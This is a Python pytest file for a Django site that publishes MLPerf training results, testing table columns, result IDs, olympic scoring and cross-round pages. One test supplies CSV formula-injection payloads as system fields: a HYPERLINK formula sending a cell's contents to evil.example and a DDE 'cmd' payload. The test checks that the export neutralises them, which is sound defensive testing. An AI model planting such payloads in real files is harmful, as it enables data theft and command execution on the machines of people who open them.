"""The published tables have the columns of the official MLPerf tables, and nothing a
submitter wrote runs as a formula in a spreadsheet."""

import csv
import io
import json

import pytest

from submissions.models import PublishedSystem
from submissions.results_columns import category, official_availability, result_id, system_columns
from submissions.selectors.results import olympic_runs
from tests.submissions.checker.mllog_factory import RunSpec, default_runs
from tests.submissions.conftest import close_window, publish, upload
from tests.submissions.packages import generated_org

pytestmark = pytest.mark.usefixtures("eager", "submissions_root")


def _edit_system(org_dir, **values):
    path = org_dir / "systems" / "acme_box.json"
    content = json.loads(path.read_text())
    content.update(values)
    path.write_text(json.dumps(content))


@pytest.mark.parametrize(
    ("status", "official", "shown"),
    [
        ("Available on-premise", "Available on-premise", "available"),
        ("available cloud", "Available cloud", "available"),
        ("onprem", "Available on-premise", "available"),
        ("Preview", "Preview", "preview"),
        (
            "Research, Development, or Internal (RDI)",
            "Research, Development, or Internal (RDI)",
            "research",
        ),
        ("rdi", "Research, Development, or Internal (RDI)", "research"),
        ("someday", "", ""),
    ],
)
def test_availability_is_normalised_as_the_official_summarizer_does(status, official, shown):
    assert official_availability(status) == official and category(status) == shown


def test_columns_follow_the_summarizer():
    columns = system_columns(
        {
            "system_name": "Box",
            "number_of_nodes": "4",
            "host_processors_per_node": "2",
            "host_processor_model_name": "CPU",
            "accelerators_per_node": "8",
            "accelerator_model_name": "GPU",
            "framework": "TensorFlow 2 commit hash = abc",
            "hw_notes": "liquid",
            "sw_notes": "",
        },
        fallback_name="box",
    )
    assert (columns.host_processors, columns.accelerators) == (8, 32)
    assert (columns.framework, columns.notes) == ("TensorFlow 2", "liquid")
    assert result_id("5.1.0", 1) == "5.1-0001"


def test_the_table_has_ids_in_the_official_order_and_the_official_columns(
    client,
    round_open,
    acme,
    amd,
    globex,
    acme_submitter,
    amd_submitter,
    globex_submitter,
    chair,
    tmp_path,
    django_capture_on_commit_callbacks,
):
    specs = [
        (acme_submitter, acme, "Acme", {"status": "Research, Development, or Internal (RDI)"}),
        (
            amd_submitter,
            amd,
            "AMD",
            {"status": "Available cloud", "hw_notes": "air", "sw_notes": "ngc"},
        ),
        (globex_submitter, globex, "Globex", {"status": "Preview", "number_of_nodes": "2"}),
    ]
    for user, org, name, values in specs:
        org_dir = generated_org(tmp_path / name, org=name)
        _edit_system(org_dir, **values)
        upload(user, round_open, org, org_dir, django_capture_on_commit_callbacks)
    close_window(round_open)
    publish(chair, round_open)
    rows = list(PublishedSystem.objects.order_by("result_id"))
    assert [(r.result_id, r.organization.slug, r.category) for r in rows] == [
        ("5.1-0001", "amd", "available"),
        ("5.1-0002", "globex", "preview"),
        ("5.1-0003", "acme", "research"),
    ]
    globex_row = rows[1]
    assert (globex_row.number_of_nodes, globex_row.host_processors, globex_row.accelerators) == (
        2,
        4,
        16,
    )
    assert rows[0].notes == "air;ngc"
    html = client.get("/results/v5.1/").content.decode()
    for text in (
        "5.1-0001",
        "Preview",
        "Research",
        "2 \u00d7 Acme CPU",
        "16 \u00d7 Acme Accelerator",
        "Acme Framework 1.0",
        "air;ngc",
    ):
        assert text in html, text
    assert rows[0].description_url in html and rows[0].get_absolute_url() in html
    only_preview = client.get("/results/v5.1/?category=preview").content.decode()
    assert "5.1-0002" in only_preview and "5.1-0001" not in only_preview
    record = client.get("/api/results/v5.1?organization=globex").json()["results"][0]
    assert record["id"] == "5.1-0002" and record["category"] == "Preview"
    assert record["details_url"].endswith("/files/Globex/systems/acme_box.json")
    assert client.get(record["details_url"]).status_code == 200
    assert client.get(record["logs_url"]).status_code == 200
    header = next(csv.reader(io.StringIO(client.get("/results/v5.1/export.csv").content.decode())))
    assert header[:6] == ["id", "division", "category", "availability", "organization", "system"]


def test_a_formula_in_a_system_description_is_neutralised_in_the_csv(
    client, round_open, acme, acme_submitter, chair, tmp_path, django_capture_on_commit_callbacks
):
    org_dir = generated_org(tmp_path)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    _edit_system(org_dir, system_name=formula, framework="+cmd|' /C calc'!A0", hw_notes="@SUM(1)")
    upload(acme_submitter, round_open, acme, org_dir, django_capture_on_commit_callbacks)
    close_window(round_open)
    publish(chair, round_open)
    client.logout()
    [record] = list(
        csv.DictReader(io.StringIO(client.get("/results/v5.1/export.csv").content.decode()))
    )
    assert record["system_name"] == "'" + formula
    assert record["framework"].startswith("'+") and record["notes"].startswith("'@")
    assert all(not value.startswith(("=", "+", "-", "@")) for value in record.values() if value)


@pytest.mark.parametrize(
    ("minutes", "dropped"),
    [
        ([12.0, 10.0, 11.0, 13.0, 14.0], {1: "fastest", 4: "slowest"}),
        ([12.0, None, 11.0, 13.0, 14.0], {1: "did not converge or comply", 2: "fastest"}),
    ],
)
def test_olympic_scoring_drops_as_the_summarizer(minutes, dropped):
    runs = olympic_runs("retinanet", [(f"result_{i}.txt", m) for i, m in enumerate(minutes)])
    assert {i: r.dropped for i, r in enumerate(runs) if r.dropped} == dropped


def test_the_system_page_shows_which_runs_olympic_scoring_dropped(
    client, round_open, acme, acme_submitter, chair, tmp_path, django_capture_on_commit_callbacks
):
    runs = default_runs()
    # This run never reaches the target quality.
    runs[3] = RunSpec(seed=77, final_loss=0.95, samples_to_converge=3072, minutes=10)
    upload(
        acme_submitter,
        round_open,
        acme,
        generated_org(tmp_path, runs=runs),
        django_capture_on_commit_callbacks,
    )
    close_window(round_open)
    publish(chair, round_open)
    html = client.get("/results/v5.1/acme/acme_box/").content.decode()
    assert html.count("dropped (did not converge or comply)") == 1
    assert html.count("dropped (fastest)") == 1 and html.count("dropped (slowest)") == 0
    assert "drops 2 runs" in html


def test_a_benchmark_is_compared_across_rounds(
    client, catalogue, acme, acme_submitter, chair, tmp_path, django_capture_on_commit_callbacks
):
    from datetime import timedelta

    from django.utils import timezone

    from roadmap.models import Round
    from submissions.models import SubmissionWindow

    now = timezone.now()
    for index, name in enumerate(("v5.0", "v5.1")):
        round_ = Round.objects.get(name=name)
        SubmissionWindow.objects.create(
            round=round_, opens_at=now - timedelta(days=3), deadline=now + timedelta(days=1),
            review_ends_at=now + timedelta(days=20),
        )  # fmt: skip
        runs = [RunSpec(seed=10 + i, minutes=20 - 5 * index + i * 0.1) for i in range(10)]
        upload(
            acme_submitter,
            round_,
            acme,
            generated_org(tmp_path / name, ruleset=round_.ruleset, runs=runs),
            django_capture_on_commit_callbacks,
        )
        close_window(round_)
        publish(chair, round_)
    html = client.get("/results/benchmarks/llama2_70b_lora/").content.decode()
    sections = html.split('data-testid="benchmark-round"')[1:]
    assert [">v5.1<" in sections[0], ">v5.0<" in sections[1]] == [True, True]  # newest first
    assert "5.0-0001" in html and "5.1-0001" in html
    index = client.get("/results/").content.decode()
    assert "/results/benchmarks/llama2_70b_lora/" in index
    assert client.get("/results/benchmarks/nothing/").status_code == 404
